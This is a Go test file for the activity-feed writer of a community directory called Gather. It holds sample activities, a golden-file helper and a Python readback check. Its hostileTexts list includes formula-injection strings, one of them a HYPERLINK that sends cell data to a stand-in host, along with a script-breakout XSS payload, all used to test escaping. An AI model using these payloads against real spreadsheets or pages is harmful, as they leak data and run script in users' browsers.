package feeds_test

import (
	"bytes"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"testing"
	"time"

	"gather/api/feeds"
	"gather/directory"
	"gather/directory/vocabulary"
)

var update = flag.Bool("update", false, "rewrite the golden files")

// at is the time at which feeds are written in these tests.
var at = time.Date(2026, 11, 20, 9, 30, 0, 0, time.UTC)

func site(t testing.TB) feeds.Site {
	t.Helper()
	words, err := vocabulary.Default()
	if err != nil {
		t.Fatal(err)
	}
	return feeds.Site{Name: "Gather", URL: "https://gather.example.org", Words: words}
}

// full is an activity with every field that feeds use.
func full() directory.Activity {
	concession, youngest, left := 3.5, 18, 4
	return directory.Activity{
		ID: "7b0a5d5e-0a53-4d6e-9a34-3b1f1c8a6c01", Group: "0c7f6f0e-8f6c-4a77-9b1a-54a2f4c6b0d2", GroupName: "Northgate Friends",
		Rev: 3, Change: 41, Status: directory.StatusPublished,
		Created: time.Date(2026, 1, 5, 10, 0, 0, 0, time.UTC), Updated: time.Date(2026, 11, 2, 8, 15, 0, 0, time.UTC),
		Checked: directory.Checked{At: time.Date(2026, 11, 2, 8, 15, 0, 0, time.UTC), By: "publisher", How: "owner"},
		Located: &directory.Location{Position: directory.Position{Lat: 53.42421234567, Lon: -2.3223}, Precision: directory.PrecisionUnit, DistrictName: "Trafford"},
		SessionChanges: []directory.SessionChange{
			{Session: "2026-12-01T10:00", Status: "cancelled", Note: "The hall is closed."},
			{Session: "2026-12-08T10:00", Status: "moved", To: &directory.SessionDate{Date: "2026-12-09", Start: "14:00", End: "15:30"}},
			{Session: "2026-12-15T10:00", Status: "full"},
		},
		Details: directory.Details{
			Title: "Tuesday Chair Yoga", Summary: "Gentle yoga on chairs, then tea and a chat.", Description: "For all abilities.\n\nWear what you like.",
			Interests: []string{"chair-yoga", "crafts"}, Delivery: []string{"venue", "online"},
			Venue: &directory.Venue{Name: "St Mary's Hall", Address: directory.Address{Street: "12 Church Road", Town: "Sale", County: "Greater Manchester", Postcode: "M33 7DB"},
				GettingThere: &directory.GettingThere{Stop: "Sale Metrolink", StopMetres: 200, Parking: "six places"}},
			Online: &directory.Online{Platform: "Zoom", URL: "https://example.org/join"},
			Schedule: &directory.Schedule{Repeats: []directory.Repeat{{Every: "week", Days: []string{"tue"}, Start: "10:00", End: "11:30", From: "2026-01-06"}},
				Except: []string{"2026-12-29"}},
			Cost:      &directory.Cost{Kind: "fixed", Pounds: 5, ConcessionPounds: &concession, ConcessionFor: "over 60s", Extras: []directory.Extra{{What: "Tea", Pounds: 0.5, Optional: true}}},
			Audience:  &directory.Audience{MinAge: &youngest, MadeFor: []string{"over-50s"}},
			Languages: []string{"en", "cy"},
			Access:    map[string]directory.Answer{"step-free": {Answer: "yes", Note: "ramp at the side door"}, "hearing-loop": {Answer: "no"}},
			FirstVisit: &directory.FirstVisit{
				Facts:        map[string]directory.Answer{"met-on-arrival": {Answer: "yes"}, "companion-welcome": {Answer: "yes", Note: "carers free"}},
				WhatToExpect: "Mary meets you at the door.", ContactFirst: "Text the host.", GroupTypical: 8, GroupMax: 12, Commitment: "drop-in",
			},
			Joining: &directory.Joining{How: []string{"drop-in"}, URL: "https://example.org/book", Places: &directory.Places{Status: "few", Available: &left}},
			Contacts: []directory.Contact{
				{Role: "Treasurer", Name: "Secret Person", Phone: "0161 496 0999", Email: "secret@example.org"},
				{Role: "Host", Name: "Mary", Phone: "+44 161 496 0001", Public: true},
			},
			Website: "https://example.org/yoga",
			Images:  []directory.Image{{URL: "https://example.org/hall.jpg", Alt: "A bright hall"}},
			Source:  &directory.Source{Name: "Trafford Data Lab", Licence: "OGL-UK-3.0", Attribution: "Contains data of Trafford Council"},
		},
	}
}

// least is an activity with only the required fields.
func least() directory.Activity {
	return directory.Activity{
		ID: "1e3d6a0c-92b4-4c35-8a27-0d7a3a4f9e11", Group: "0c7f6f0e-8f6c-4a77-9b1a-54a2f4c6b0d2", GroupName: "Northgate Friends",
		Status: directory.StatusPublished, Updated: time.Date(2026, 11, 1, 8, 15, 0, 0, time.UTC),
		Details: directory.Details{Title: "Phone chat", Delivery: []string{"phone"}},
	}
}

// hostileTexts are texts that break spreadsheets, and writers that do not escape.
func hostileTexts() []string {
	return []string{
		`=HYPERLINK("http://example.org/?x="&A1,"Click")`, "+44 161 496 0000", "-2+3", "@SUM(A1)", "\t=1+1", "\n=1+1", "＝1+1",
		"'=1+1", "''@x", "'Allo 'Allo club", `Tea, cake; and "talk" \ more`, "one\ntwo\n\nthree", "</script><script>alert(1)</script>",
		"]]><!-- &amp; &#0; <b>", "ŵ ŷ — “quotes” 👩‍🦽", "a,b\n\"c\",d", " leads and trails ", "line\u2028separator", `{"@type":"Event"}`,
	}
}

// spoilt are texts that the directory would refuse, and what Clean makes of them.
func spoilt() map[string]string {
	return map[string]string{"bell\a null\x00": "bell null", "bad \xff\xfe": "bad \uFFFD", "one\r\ntwo\rthree": "one\ntwo\nthree", "\u0085\uFEFFx\uFFFF": "x"}
}

// numbered is least with a text in every free-text field, and its own id.
func numbered(n int, text string) directory.Activity {
	a := full()
	a.ID = fmt.Sprintf("00000000-0000-4000-8000-%012d", n)
	a.Title, a.Summary, a.Description, a.GroupName = text, text, text, text
	a.Venue.Name, a.Venue.Address.Street, a.FirstVisit.WhatToExpect = text, text, text
	a.Source.Name, a.Source.Attribution, a.Cost.ConcessionFor = text, text, text
	a.Contacts[1].Phone = text
	return a
}

func hostile() []directory.Activity {
	var as []directory.Activity
	for i, text := range hostileTexts() {
		as = append(as, numbered(i, text))
	}
	return as
}

func list(as ...directory.Activity) feeds.Activities {
	return func(yield func(*directory.Activity, error) bool) {
		for i := range as {
			if !yield(&as[i], nil) {
				return
			}
		}
	}
}

func golden(t *testing.T, name string, got []byte) {
	t.Helper()
	path := filepath.Join("testdata", name)
	if *update {
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(got, want) {
		t.Errorf("%s differs; run with -update and read the diff\n%s", path, got)
	}
}

// readback runs scripts/readback, which reads feeds with Python's parsers. If they
// cannot be installed (exit code 77) or there is no Python (127), the test is
// skipped, except in CI, where it fails.
func readback(t *testing.T, kind string, in []byte, out any) {
	t.Helper()
	cmd := exec.Command(filepath.Join("..", "..", "scripts", "readback"), kind)
	var said bytes.Buffer
	cmd.Stdin, cmd.Stderr = bytes.NewReader(in), &said
	answer, err := cmd.Output()
	var exit *exec.ExitError
	cannot := errors.As(err, &exit) && (exit.ExitCode() == 77 || exit.ExitCode() == 127) || errors.Is(err, exec.ErrNotFound) || errors.Is(err, os.ErrNotExist)
	switch {
	case cannot && os.Getenv("CI") != "true":
		t.Skipf("SKIPPED: the independent parsers cannot run: %v\n%s", err, said.String())
	case err != nil:
		t.Fatalf("scripts/readback %s: %v\n%s", kind, err, said.String())
	}
	if err := json.Unmarshal(answer, out); err != nil {
		t.Fatalf("scripts/readback %s printed %q: %v", kind, answer, err)
	}
}
